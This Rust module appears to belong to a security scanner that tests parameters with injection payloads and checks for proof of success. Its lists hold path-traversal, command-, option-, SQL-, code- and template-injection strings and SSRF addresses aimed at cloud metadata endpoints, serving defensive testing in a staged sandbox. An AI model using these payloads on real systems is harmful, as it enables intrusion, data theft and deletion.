//! What is tried on a parameter: words, and what must be seen for them to have worked.

use super::dice::{loopback, product, word};
use super::kind::Kind;
use crate::evidence::live::Attack;

/// One value to send, and what proves that it did what it should not.
#[derive(Debug, Clone)]
pub(super) struct Try {
    pub(super) attack: Attack,
    /// With names for the stage's places.
    pub(super) value: String,
    pub(super) proof: Proof,
}

/// What would prove something, beside a planted secret in the answer and a planted file that changed.
#[derive(Debug, Clone, Default)]
pub(super) struct Proof {
    /// A file of this name, where the value says.
    pub(super) mark: Option<String>,
    /// Where the mark would be if a command had made it.
    pub(super) executed: bool,
    /// An expression and what it comes to.
    pub(super) product: Option<(String, u64)>,
    /// A host, as it would be told when it was reached.
    pub(super) host: Option<String>,
    /// What the schema says or fails to say, if a result shows that nobody else refuses it.
    pub(super) accepted: Option<String>,
}

/// The kinds of attack in the order in which they are tried on a kind of parameter, its own first.
pub(super) fn tries(kind: Kind, honest: &str, table: &str) -> Vec<Try> {
    let mut all = own(kind, honest, table);
    if !matches!(kind, Kind::Path | Kind::Command) {
        // A word of any kind may end up as an argument of a program.
        all.extend(marks(Attack::OptionInjection, false, &["--output={stage}/drop/{mark}".into()]));
    }
    for other in Kind::ALL {
        if *other != kind {
            all.extend(foreign(*other, honest, table));
        }
    }
    all
}

/// For what is no tool: a template of addresses, an argument of a prompt.
pub(super) fn some(table: &str) -> Vec<Try> {
    let paths = paths().into_iter().filter(|one| one.attack != Attack::OptionInjection);
    let mut all: Vec<Try> = paths.collect();
    all.extend(queries("tea", table));
    all.extend(commands("tea").into_iter().take(3));
    all.extend(templates().into_iter().take(2));
    all.extend(expressions().into_iter().take(1));
    all
}

fn own(kind: Kind, honest: &str, table: &str) -> Vec<Try> {
    match kind {
        Kind::Path => paths(),
        Kind::Command => commands(honest),
        Kind::Sql => [statements(table), queries(honest, table)].concat(),
        Kind::Url => addresses(),
        Kind::Code => expressions(),
        Kind::Template => templates(),
        Kind::Text => Vec::new(),
    }
}

/// The few that find the usual mistake in a parameter that does not look like it.
fn foreign(kind: Kind, honest: &str, table: &str) -> Vec<Try> {
    let some = |all: Vec<Try>, most: usize| all.into_iter().take(most).collect();
    match kind {
        Kind::Path => some(paths(), 2),
        Kind::Command => some(commands(honest), 3),
        Kind::Sql => queries(honest, table),
        Kind::Code => some(expressions(), 2),
        Kind::Template => some(templates(), 2),
        // Whatever it is called, it may be where something is fetched.
        Kind::Url => some(addresses(), 2),
        Kind::Text => Vec::new(),
    }
}

fn plain(attack: Attack, values: &[&str]) -> Vec<Try> {
    let one = |value: &&str| Try { attack, value: (*value).to_owned(), proof: Proof::default() };
    values.iter().map(one).collect()
}

/// Values in which `{mark}` is a file that would be made.
fn marks(attack: Attack, executed: bool, values: &[String]) -> Vec<Try> {
    let one = |value: &String| {
        let mark = word();
        let value = value.replace("{mark}", &mark);
        Try { attack, value, proof: Proof { mark: Some(mark), executed, ..Proof::default() } }
    };
    values.iter().map(one).collect()
}

/// Values in which `{a}` and `{b}` are multiplied.
fn products(attack: Attack, values: &[&str]) -> Vec<Try> {
    let one = |value: &&str| {
        let (a, b, result) = product();
        let value = value.replace("{a}", &a.to_string()).replace("{b}", &b.to_string());
        let proof = Proof { product: Some((value.clone(), result)), ..Proof::default() };
        Try { attack, value, proof }
    };
    values.iter().map(one).collect()
}

fn paths() -> Vec<Try> {
    let mut all = plain(
        Attack::Traversal,
        &[
            "../vault/key.txt",
            "{stage}/vault/key.txt",
            "file://{stage}/vault/key.txt",
            "data/../../vault/key.txt",
            "..%2fvault%2fkey.txt",
            "....//vault/key.txt",
            "..\\vault\\key.txt",
            "../vault",
        ],
    );
    all.extend(marks(
        Attack::Traversal,
        false,
        &["../drop/{mark}".into(), "{stage}/drop/{mark}".into()],
    ));
    let next_door = ["../project-evil/key.txt", "{stage}/project-evil/key.txt", "../project-evil"];
    all.extend(plain(Attack::Neighbour, &next_door));
    all.extend(marks(Attack::Neighbour, false, &["../project-evil/{mark}".into()]));
    all.extend(plain(
        Attack::Symlink,
        &["shortcut.txt", "{project}/shortcut.txt", "way-out/key.txt", "way-out"],
    ));
    all.extend(marks(Attack::Symlink, false, &["way-out/{mark}".into()]));
    all.extend(plain(Attack::OptionInjection, &["--files0-from=../vault/key.txt"]));
    all.extend(marks(Attack::OptionInjection, false, &["--output={stage}/drop/{mark}".into()]));
    all
}

fn commands(honest: &str) -> Vec<Try> {
    let second = [
        format!("{honest}; touch {{stage}}/drop/{{mark}}"),
        format!("{honest} $(touch {{stage}}/drop/{{mark}})"),
        "'; touch {stage}/drop/{mark}; '".to_owned(),
        "\"; touch {stage}/drop/{mark}; \"".to_owned(),
        format!("{honest} && touch {{stage}}/drop/{{mark}}"),
        format!("{honest} | tee {{stage}}/drop/{{mark}}"),
        format!("{honest}\ntouch {{stage}}/drop/{{mark}}"),
        format!("{honest} `touch {{stage}}/drop/{{mark}}`"),
        "touch {stage}/drop/{mark}".to_owned(),
        "sh -c 'touch {stage}/drop/{mark}'".to_owned(),
    ];
    let mut all = marks(Attack::CommandInjection, true, &second);
    all.extend(plain(Attack::Traversal, &["cat ../vault/key.txt", "cat {stage}/vault/key.txt"]));
    all.extend(plain(
        Attack::Neighbour,
        &["cat ../project-evil/key.txt", "cat {stage}/project-evil/key.txt"],
    ));
    all.extend(plain(Attack::Symlink, &["cat shortcut.txt", "cat way-out/key.txt"]));
    let options = [
        "wc --files0-from=../vault/key.txt",
        "wc --files0-from={stage}/vault/key.txt",
        "sort --files0-from=../vault/key.txt",
        "date --file=../vault/key.txt",
        "--files0-from=../vault/key.txt",
    ];
    all.extend(plain(Attack::OptionInjection, &options));
    let written = [
        "sort --output={stage}/drop/{mark} notes.txt",
        "find . -maxdepth 0 -fprint {stage}/drop/{mark}",
        "git diff --no-index --output={stage}/drop/{mark} notes.txt data/prices.csv",
        "tar --create --file={stage}/drop/{mark} notes.txt",
        "--output={stage}/drop/{mark}",
    ];
    all.extend(marks(Attack::OptionInjection, false, &written.map(str::to_owned)));
    all
}

/// For whoever takes a whole statement.
fn statements(table: &str) -> Vec<Try> {
    let reads = [
        format!("SELECT name, card FROM {table}"),
        format!("SELECT name FROM products UNION SELECT card FROM {table}"),
    ];
    let writes = [
        format!("DELETE FROM {table}"),
        format!("WITH gone AS (SELECT 1) DELETE FROM {table}"),
        format!("SELECT 1; DELETE FROM {table}"),
        format!("/* SELECT */ UPDATE {table} SET card = 'x'"),
    ];
    [sql(Attack::SqlRead, &reads), sql(Attack::SqlWrite, &writes)].concat()
}

/// For whoever puts a text into a statement.
fn queries(honest: &str, table: &str) -> Vec<Try> {
    let union = |columns: &str| format!("{honest}' UNION SELECT {columns} FROM {table} --");
    let reads = [
        union("card"),
        union("name, card"),
        union("1, name, card"),
        union("1, 2, name, card"),
        format!("%' OR 1 = 1 UNION SELECT name, card FROM {table} --"),
        format!("(SELECT group_concat(card) FROM {table})"),
        format!("0 UNION SELECT card FROM {table}"),
    ];
    let writes = [format!("{honest}'; DELETE FROM {table}; --"), format!("1; DELETE FROM {table}")];
    [sql(Attack::SqlRead, &reads), sql(Attack::SqlWrite, &writes)].concat()
}

fn sql(attack: Attack, values: &[String]) -> Vec<Try> {
    values.iter().flat_map(|value| plain(attack, &[value])).collect()
}

/// Each names a host of its own where it can: what was reached once is not told a second time.
fn addresses() -> Vec<Try> {
    let at = || {
        let address = loopback();
        (address.to_string(), u32::from(address))
    };
    let own = |value: &str| {
        let (address, number) = at();
        let value = value.replace("{address}", &address).replace("{number}", &number.to_string());
        (value, address)
    };
    let named = |value: &str, host: &str| (value.to_owned(), host.to_owned());
    let inside = [
        own("http://{address}/{word}"),
        named("http://169.254.169.254/latest/meta-data/", "169.254.169.254"),
        named("http://localhost/{word}", "127.0.0.1"),
        own("http://{number}/{word}"),
        named("http://0.0.0.0/{word}", "0.0.0.0"),
        own("http://[::ffff:{address}]/{word}"),
        own("http://example.com@{address}/{word}"),
        // A name that leads inside, and of which a look at numbers knows nothing.
        named("http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal"),
        // For whoever puts an address of its own around the host.
        own("{address}"),
        own("{address}/{word}?"),
    ];
    let one = |(value, host): (String, String)| Try {
        attack: Attack::ServerSideRequest,
        value: value.replace("{word}", &word()),
        proof: Proof { host: Some(host), ..Proof::default() },
    };
    let mut all: Vec<Try> = inside.into_iter().map(one).collect();
    all.extend(plain(
        Attack::Traversal,
        &["file://{stage}/vault/key.txt", "file://localhost{stage}/vault/key.txt"],
    ));
    all
}

/// Only what a language itself would evaluate: a calculator that multiplies is what it says.
fn expressions() -> Vec<Try> {
    let makes = [
        "__import__('os').system('touch {stage}/drop/{mark}')",
        "require('fs').writeFileSync('{stage}/drop/{mark}', '')",
        "import os; os.system('touch {stage}/drop/{mark}')",
        "process.mainModule.require('fs').writeFileSync('{stage}/drop/{mark}', '')",
        "File.write('{stage}/drop/{mark}', '')",
    ];
    let mut all = marks(Attack::CodeInjection, true, &makes.map(str::to_owned));
    let comes_to = [
        "[{a} * {b} for _ in [0]][0]",
        "(() => {a} * {b})()",
        "this.constructor.constructor('return {a} * {b}')()",
        "print([{a} * {b} for _ in [0]][0])",
        "console.log((() => {a} * {b})())",
    ];
    all.extend(products(Attack::CodeInjection, &comes_to));
    all.extend(plain(Attack::CodeInjection, &["open('{stage}/vault/key.txt').read()"]));
    all
}

fn templates() -> Vec<Try> {
    let all = [
        "{{{a}*{b}}}",
        "${{a}*{b}}",
        "<%= {a}*{b} %>",
        "#{{a}*{b}}",
        "{%print({a}*{b})%}",
        "@({a}*{b})",
    ];
    products(Attack::TemplateInjection, &all)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_parameter_gets_more_than_its_share() {
        for kind in Kind::ALL {
            let all = tries(*kind, "tea", "customers");
            assert!((10..=50).contains(&all.len()), "{kind:?}: {}", all.len());
            assert!(
                all.iter().all(|one| !one.value.contains("{mark}") && !one.value.contains("{a}"))
            );
        }
    }

    #[test]
    fn templates_are_written_as_their_engines_read_them() {
        let all = templates();
        let shown: Vec<String> = all
            .iter()
            .map(|one| one.value.chars().filter(|c| !c.is_ascii_digit()).collect())
            .collect();
        assert_eq!(shown, ["{{*}}", "${*}", "<%= * %>", "#{*}", "{%print(*)%}", "@(*)"]);
    }
}
